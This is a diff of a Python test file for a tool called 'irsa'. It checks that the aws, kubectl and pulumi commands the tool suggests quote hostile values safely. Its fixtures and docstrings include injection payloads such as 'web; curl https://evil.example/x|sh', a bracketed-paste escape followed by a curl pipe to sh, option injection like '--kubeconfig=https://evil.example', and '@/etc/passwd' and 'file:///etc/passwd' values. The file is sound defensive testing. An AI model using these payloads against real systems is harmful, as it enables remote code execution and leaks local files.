@@ -1,5 +1,6 @@
 """Every command that irsa advises, read back as a POSIX shell reads it, with values that would break out of it."""
 
+import inspect
 import json
 import shlex
 import subprocess
@@ -16,126 +17,61 @@ HOSTILE = (
     *("~", "!!", "日本"),
 )
 UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")
+PLAIN = "one-word"
 
-# One call per command, and the words that a shell must hand over; {} stands for the value.
-CALLS: dict[str, tuple[Callable[[str], str], list[str]]] = {
-    "up": (commands.up, ["pulumi", "up", "--refresh", "--stack", "{}"]),
-    "up_of_guard": (commands.up_of_guard, ["pulumi", "up", "--refresh", "--skip-preview", "--stack", "{}"]),
-    "create_provider": (
-        lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
-        ["aws", "iam", "create-open-id-connect-provider", "--url", "{}", "--client-id-list", "ci", "sts.amazonaws.com"],
-    ),
-    "associate_provider": (
-        lambda value: commands.associate_provider(value, ISSUER, region="eu-west-1"),
-        [
-            *("eksctl", "utils", "associate-iam-oidc-provider", "--cluster", "{}", "--approve"),
-            *("--region", "eu-west-1"),
-        ],
-    ),
-    "associate_provider for another audience": (
-        lambda value: commands.associate_provider("prod", ISSUER, [value]),
-        ["aws", "iam", "create-open-id-connect-provider", "--url", ISSUER, "--client-id-list", "{}"],
-    ),
-    "add_client_id": (
-        lambda value: commands.add_client_id("arn:p", value),
-        [
-            *("aws", "iam", "add-client-id-to-open-id-connect-provider", "--open-id-connect-provider-arn", "arn:p"),
-            *("--client-id", "{}"),
-        ],
-    ),
-    "create_addon": (
-        lambda value: commands.create_addon(value, "eks-pod-identity-agent", "eu-west-1"),
-        [
-            *("aws", "eks", "create-addon", "--cluster-name", "{}", "--addon-name", "eks-pod-identity-agent"),
-            *("--region", "eu-west-1"),
-        ],
-    ),
-    "detach_policy": (
-        lambda value: commands.detach_policy("r", value),
-        ["aws", "iam", "detach-role-policy", "--role-name", "r", "--policy-arn", "{}"],
-    ),
-    "delete_inline_policy": (
-        lambda value: commands.delete_inline_policy("r", value),
-        ["aws", "iam", "delete-role-policy", "--role-name", "r", "--policy-name", "{}"],
-    ),
-    "assume_role": (
-        commands.assume_role,
-        [
-            *("aws", "sts", "assume-role", "--role-arn", "{}", "--role-session-name", "irsa"),
-            *("--query", "AssumedRoleUser"),
-        ],
-    ),
-    "list_profiles": (lambda _: commands.list_profiles(), ["aws", "configure", "list-profiles"]),
-    "list_contexts": (lambda _: commands.list_contexts(), ["kubectl", "config", "get-contexts"]),
-    "wait_for_cluster": (
-        lambda value: commands.wait_for_cluster(value, "eu-west-1"),
-        ["aws", "eks", "wait", "cluster-active", "--name", "{}", "--region", "eu-west-1"],
-    ),
-    "list_arns": (lambda _: commands.LIST_ARNS["oidc-provider"], ["aws", "iam", "list-open-id-connect-providers"]),
-    "remove_annotations": (
-        lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
-        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "{}-", "a/b-"],
-    ),
-    "remove_annotations in a context": (
-        lambda value: commands.remove_annotations("team-a", value, "a/b", context="blue"),
-        ["kubectl", "annotate", "serviceaccount", "{}", "-n", "team-a", "--context", "blue", "a/b-"],
-    ),
-    "annotate": (
-        lambda value: commands.annotate("team-a", "app", "a/b", value),
-        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "--overwrite", "a/b={}"],
-    ),
-    "annotate and remove": (
-        lambda value: commands.annotate("team-a", "app", "a/b", "c", removed=[value]),
-        ["kubectl", "annotate", "serviceaccount", "app", "-n", "team-a", "--overwrite", "a/b=c", "{}-"],
-    ),
-    "annotate in a context": (
-        lambda value: commands.annotate(value, "app", "a/b", "c", "blue"),
-        [*("kubectl", "annotate", "serviceaccount", "app", "-n", "{}", "--context", "blue", "--overwrite"), "a/b=c"],
-    ),
-    "restart": (
-        lambda value: commands.restart(f"deployment/{value}", "team-a"),
-        ["kubectl", "rollout", "restart", "deployment/{}", "-n", "team-a"],
-    ),
-    "delete_pod": (
-        lambda value: commands.delete_pod(value, "team-a"),
-        ["kubectl", "delete", "pod", "{}", "-n", "team-a"],
-    ),
-    "explain": (
-        lambda value: commands.explain("team-a/app", "arn:r", value, ISSUER),
-        ["irsa", "explain", "team-a/app", "arn:r", "--stack", "{}", "--issuer", ISSUER],
-    ),
-    "explain an audience": (
-        lambda value: commands.explain(value, "arn:r", None, ISSUER, "vault"),
-        ["irsa", "explain", "{}", "arn:r", "--issuer", ISSUER, "--audience", "vault"],
-    ),
-    "prove": (commands.prove, ["irsa", "prove", "{}"]),
-    "pulumi": (lambda value: commands.pulumi("preview", value), ["pulumi", "preview", "--stack", "{}"]),
-    "of_stack": (lambda value: commands.of_stack("verify", value), ["irsa", "verify", "--stack", "{}"]),
-    "check": (commands.check, ["irsa", "check", "{}"]),
+
+def with_one(function: Callable[..., str], names: list[str], field: str) -> Callable[[str], str]:
+    """Return what fills in one field of a template, of which the others are plain."""
+    return lambda value: function(**{each: value if each == field else "x" for each in names})
+
+
+def of_templates() -> Iterator[tuple[str, Callable[[str], str]]]:
+    for name, function in vars(commands).items():
+        given = inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}
+        if "template" in given:
+            yield from ((f"{name} {field}", with_one(function, given["names"], field)) for field in given["names"])
+
+
+# A field of each template, and what makes a field of several values.
+CALLS: dict[str, Callable[[str], str]] = {
+    **dict(of_templates()),
+    "create_provider": lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
+    "associate_provider": lambda value: commands.associate_provider("prod", ISSUER, [value]),
+    "clear_association": lambda value: commands.clear_association("prod", value, "eu-west-1", ["policy"]),
+    "remove_annotations": lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
+    "annotate": lambda value: commands.annotate("team-a", "app", "a/b", value),
+    "annotate and remove": lambda value: commands.annotate("team-a", "app", "a/b", "c", removed=[value]),
+    "up_with_service_account": lambda value: commands.up_with_service_account("dev", value, "app", created=False),
+    "up_with_annotations": lambda value: commands.up_with_annotations(value, "team-a", "app", ["a"]),
+    "check": commands.check,
 }
 
 
 @pytest.mark.parametrize("name", CALLS)
 def test_a_value_stays_one_word(name: str) -> None:
-    """Protects who pastes a command: no value ends a word, starts another command or is expanded.
+    """Protects who pastes a command: no value ends a word, starts another command, is expanded or is an option.
 
-    The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`.
+    The attack: a Pod, a role or a policy named `web; curl https://evil.example/x|sh`, or `-EVIL`.
     """
-    call, words = CALLS[name]
+    words = shlex.split(CALLS[name](PLAIN))
     for value in HOSTILE:
-        assert shlex.split(call(value)) == [word.replace("{}", value) for word in words]
+        assert shlex.split(CALLS[name](value)) == [word.replace(PLAIN, value) for word in words]
+    for value in ("-EVIL", "--kubeconfig=https://evil.example"):
+        assert not [word for word in shlex.split(CALLS[name](value)) if word.startswith(value)]
+    # An interactive zsh takes the words of a comment, and its apostrophe, for more.
+    assert " #" not in CALLS[name](PLAIN)
 
 
-@pytest.mark.parametrize("value", ["-EVIL", "--kubeconfig=https://evil.example"])
-@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
-def test_a_value_is_no_option(name: str, value: str) -> None:
-    """Protects who pastes a command: `kubectl delete pod -EVIL` would hand the program an option.
+@pytest.mark.parametrize("name", CALLS)
+def test_no_command_for_what_cannot_be_pasted(name: str) -> None:
+    """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.
 
-    The attack: a Pod, a policy, an audience or a file whose name begins with a hyphen.
+    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
+    with `##[`, which commands CI, would be another one where it is printed.
     """
-    words = shlex.split(CALLS[name][0](value))
-
-    assert not [word for word in words if word.startswith(value)]
+    assert [value for value in UNPASTABLE if CALLS[name](value)] == []
+    # Without a value, there is no option of it, and no half of a command.
+    assert len(shlex.split(CALLS[name](""))) in (0, len(shlex.split(CALLS[name](PLAIN))) - 2) or name == "annotate"
 
 
 # https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-parameters-file.html; version 1 fetches a URL, too:
@@ -164,62 +100,19 @@ def sent_by_aws_cli(words: list[str]) -> Iterator[Any]:
             yield from given
 
 
-@pytest.mark.parametrize("value", [*PLACES, "[", ' ["a"]', '{"a": 1}', "@/etc/passwd", " file://x"])
-@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "aws" in words and "{}" in words])
-def test_the_aws_cli_sends_a_value_as_it_is(name: str, value: str) -> None:
+@pytest.mark.parametrize("name", [name for name, call in CALLS.items() if call(PLAIN).startswith("aws ")])
+def test_the_aws_cli_sends_a_value_as_it_is(name: str) -> None:
     """Protects local files: `--client-id file:///etc/passwd` sends that file to IAM.
 
     The attack: a service account with the annotation `eks.amazonaws.com/audience: file:///etc/passwd`.
     """
-    command = CALLS[name][0](value)
-    if not command:
-        assert value in PLACES or value.lstrip().startswith("[")
-        return
-    sent = [*sent_by_aws_cli(shlex.split(command))]
-
-    assert value in sent
-    assert [each for each in sent if isinstance(each, tuple)] == []
-
-
-@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
-def test_no_command_for_what_cannot_be_pasted(name: str) -> None:
-    """Protects a terminal: quotes do not hold what ends a paste, the input line, or the line on the screen.
-
-    The attack: a policy whose name ends the paste (ESC [201~), kills the line (Ctrl-C) and types a command. An audience
-    with `##[`, which commands CI, would be another one where it is printed.
-    """
-    assert [value for value in UNPASTABLE if CALLS[name][0](value)] == []
-
-
-def test_no_half_of_two_commands() -> None:
-    assert commands.up_with_service_account("dev", "a\n", "app", False) == ""
-    assert commands.up_with_service_account("a\n", "team-a", "app", False) == ""
-    assert commands.up_with_annotations("dev", "team-a", "app", ["a\n"]) == ""
-    assert commands.up_with_annotations("a\n", "team-a", "app", ["a"]) == ""
-
-
-# An annotation may be empty, a stack of `irsa explain` left out; an audience of nothing is no client ID.
-MAY_BE_EMPTY = ("annotate", "explain", "restart")
-
-
-@pytest.mark.parametrize("name", [name for name, (_, words) in CALLS.items() if "{}" in " ".join(words)])
-def test_no_half_of_a_command(name: str) -> None:
-    assert name in MAY_BE_EMPTY or CALLS[name][0]("") == ""
-    assert commands.create_provider(ISSUER, []) == commands.remove_annotations("team-a", "app") == ""
-
-
-def test_a_stack_whose_name_begins_with_a_hyphen() -> None:
-    assert commands.up("-dev") == "pulumi up --refresh --stack=-dev"
-    assert commands.up("-a b") == "pulumi up --refresh '--stack=-a b'"
-    assert commands.annotate("team-a", "app", "-a/b", "c") == ""
-
-
-def test_no_shell_finds_a_comment() -> None:
-    """Protects who pastes into an interactive zsh, which takes the words of a comment, and its apostrophe, for more.
-
-    The attack: a cluster named `$(curl https://evil.example)`, in a comment behind the command.
-    """
-    assert not [name for name, (call, _) in CALLS.items() if " #" in call("blue")]
+    for value in (*PLACES, "[", ' ["a"]', '{"a": 1}', "@/etc/passwd", " file://x"):
+        if command := CALLS[name](value):
+            sent = [*sent_by_aws_cli(shlex.split(command))]
+            assert value in sent
+            assert [each for each in sent if isinstance(each, tuple)] == []
+        else:
+            assert value in PLACES or value.lstrip().startswith("[")
 
 
 @pytest.mark.parametrize("value", HOSTILE)
